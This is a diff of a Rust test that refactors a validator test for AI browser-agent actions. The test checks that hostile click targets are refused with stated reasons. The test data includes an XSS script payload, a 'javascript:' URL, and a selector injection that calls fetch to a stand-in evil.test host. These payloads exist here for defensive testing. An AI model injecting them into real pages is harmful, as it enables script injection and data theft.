@@ -155,6 +155,12 @@ fn with(change: impl Fn(&mut Value)) -> String {
 fn malformed_and_hostile_answers_are_refused_whole_with_the_reason() {
     let knowledge = knowledge();
     let set = |key: &'static str, value: Value| with(move |answer| answer["actions"][0][key] = value.clone());
+    let click = |target: &str| {
+        with(|answer| {
+            answer["actions"][0]["action_type"] = json!("click");
+            answer["actions"][0]["target"] = json!(target);
+        })
+    };
     let cases: Vec<(String, &str)> = vec![
         ("I would open the login page.".to_owned(), "no JSON object"),
         ("{\"actions\": [{\"action_type\": \"wait\"".to_owned(), "no JSON object"),
@@ -179,41 +185,11 @@ fn malformed_and_hostile_answers_are_refused_whole_with_the_reason() {
         (set("target", json!("https://evil.test/login")), "never seen"),
         (set("target", json!("https://user:pass@app.test/")), "credentials"),
         (set("target", json!("/login")), "no address"),
-        (
-            with(|answer| {
-                answer["actions"][0]["action_type"] = json!("click");
-                answer["actions"][0]["target"] = json!("</script><script>alert(1)</script>");
-            }),
-            "markup",
-        ),
-        (
-            with(|answer| {
-                answer["actions"][0]["action_type"] = json!("click");
-                answer["actions"][0]["target"] = json!("a[href='x');fetch('https://evil.test')//");
-            }),
-            "neither words nor a selector",
-        ),
-        (
-            with(|answer| {
-                answer["actions"][0]["action_type"] = json!("click");
-                answer["actions"][0]["target"] = json!("javascript:alert(1)");
-            }),
-            "neither words nor a selector",
-        ),
-        (
-            with(|answer| {
-                answer["actions"][0]["action_type"] = json!("click");
-                answer["actions"][0]["target"] = json!("");
-            }),
-            "is empty",
-        ),
-        (
-            with(|answer| {
-                answer["actions"][0]["action_type"] = json!("click");
-                answer["actions"][0]["target"] = json!("x".repeat(400));
-            }),
-            "too long",
-        ),
+        (click("</script><script>alert(1)</script>"), "markup"),
+        (click("a[href='x');fetch('https://evil.test')//"), "neither words nor a selector"),
+        (click("javascript:alert(1)"), "neither words nor a selector"),
+        (click(""), "is empty"),
+        (click(&"x".repeat(400)), "too long"),
     ];
     for (answer, reason) in cases {
         let result = filled(&knowledge, &answer);
